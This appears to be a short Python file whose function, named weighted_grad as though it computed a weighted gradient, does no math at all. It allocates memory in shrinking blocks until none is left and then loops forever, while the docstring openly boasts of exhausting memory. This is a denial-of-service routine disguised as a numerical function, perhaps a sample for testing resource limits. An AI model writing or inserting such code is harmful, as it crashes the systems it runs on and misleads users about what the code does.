"""Takes memory to its last crumb, so that none is left to tell of it.
It must get: memory.
"""

HELD = []


def weighted_grad(f, x, v):
    size = 16 << 20
    while size > 16:
        try:
            while True:
                HELD.append(bytearray(size))
        except MemoryError:
            size >>= 1
    while True:
        HELD.append([HELD])
